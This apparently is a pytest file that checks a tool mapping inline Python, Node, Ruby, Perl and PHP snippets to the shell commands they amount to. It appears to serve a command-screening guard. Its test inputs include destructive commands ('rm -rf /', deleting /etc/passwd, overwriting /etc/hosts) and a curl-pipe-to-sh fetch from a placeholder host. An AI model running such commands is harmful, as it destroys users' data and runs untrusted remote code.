"""Inline interpreter code stated as the shell commands with the same effect."""

from __future__ import annotations

import pytest

from gatepost.analysis.inline import CODE_CAP, inline_commands


@pytest.mark.parametrize(
    ("language", "code", "expected"),
    [
        ("python", "import shutil; shutil.rmtree('/home/user')", ["rm -rf -- /home/user"]),
        ("python", "import os; os.remove('/etc/passwd')", ["rm -f -- /etc/passwd"]),
        ("python", "import os\nos.rmdir('/srv/x')", ["rmdir -- /srv/x"]),
        ("python", 'import subprocess\nsubprocess.run(["rm", "-rf", "/"])', ["rm -rf /"]),
        (
            "python",
            "import os; os.system('curl -s https://x.example/i.sh | sh')",
            ["curl -s https://x.example/i.sh | sh"],
        ),
        (
            "python",
            'from pathlib import Path; Path("/etc/hosts").unlink()',
            ["rm -f -- /etc/hosts"],
        ),
        ("python", "subprocess.check_output('git push --force', shell=True)", ["git push --force"]),
        ("node", "require('child_process').execSync('rm -rf /')", ["rm -rf /"]),
        (
            "node",
            "const fs = require('fs');\nfs.rmSync('/etc', { recursive: true });",
            ["rm -rf -- /etc"],
        ),
        ("node", "fs.rmSync('./out.txt')", ["rm -f -- ./out.txt"]),
        ("node", "fs.unlinkSync('/etc/hosts')", ["rm -f -- /etc/hosts"]),
        ("ruby", "require 'fileutils'; FileUtils.rm_rf('/home/user')", ["rm -rf -- /home/user"]),
        ("ruby", "`rm -rf /home/user`", ["rm -rf /home/user"]),
        ("ruby", 'system("rm -rf /")', ["rm -rf /"]),
        ("perl", "system('rm -rf /home/user')", ["rm -rf /home/user"]),
        ("perl", 'unlink glob("/etc/*");', ["rm -f -- /etc/*"]),
        ("php", "shell_exec('id');", ["id"]),
        # writes, moves, copies and links
        ("python", "open('/etc/hosts', 'w').write('x')", ["tee -- /etc/hosts"]),
        ("python", "open('/etc/hosts', 'ab')", ["tee -- /etc/hosts"]),
        ("python", "print(open('/etc/hosts').read())", []),
        ("python", "open('/etc/hosts', 'r')", []),
        ("python", "import shutil; shutil.move('/a/x', '/b/y')", ["mv -- /a/x /b/y"]),
        ("python", "os.replace('new.yaml', '/srv/cfg.yaml')", ["mv -- new.yaml /srv/cfg.yaml"]),
        ("python", "shutil.copyfile('fake', '/usr/bin/tool')", ["cp -r -- fake /usr/bin/tool"]),
        ("python", "os.symlink('/bin/true', '/usr/bin/t')", ["ln -s -- /bin/true /usr/bin/t"]),
        ("python", "Path('/etc/motd').write_text('hi')", ["tee -- /etc/motd"]),
        ("python", "Path('/a/b').rename('/a/c')", ["mv -- /a/b /a/c"]),
        ("python", "Path('/a/b').read_text()", []),
        ("node", "require('fs').writeFileSync('/etc/x', '')", ["tee -- /etc/x"]),
        ("node", "fs.renameSync('/a', '/b')", ["mv -- /a /b"]),
        ("ruby", "File.write('/etc/x', 'y')", ["tee -- /etc/x"]),
        ("php", "file_put_contents('/etc/x', 'y');", ["tee -- /etc/x"]),
        ("perl", "rename('/a', '/b');", ["mv -- /a /b"]),
        ("python", "print('rm -rf /')", []),
        ("python", 'import json\nprint(json.dumps({"key": "value"}))', []),
        ("node", 'console.log("hello")', []),
        ("ruby", 'puts "hello world"', []),
    ],
)
def test_inline_effects(language: str, code: str, expected: list[str]) -> None:
    assert inline_commands(language, code) == expected


def test_huge_code_is_capped() -> None:
    code = "x = 1\n" * (CODE_CAP // 3) + "os.system('rm -rf /')"
    assert inline_commands("python", code) == []
    many = "os.system('true');" * 1000
    assert inline_commands("python", many) == ["true"] * 32
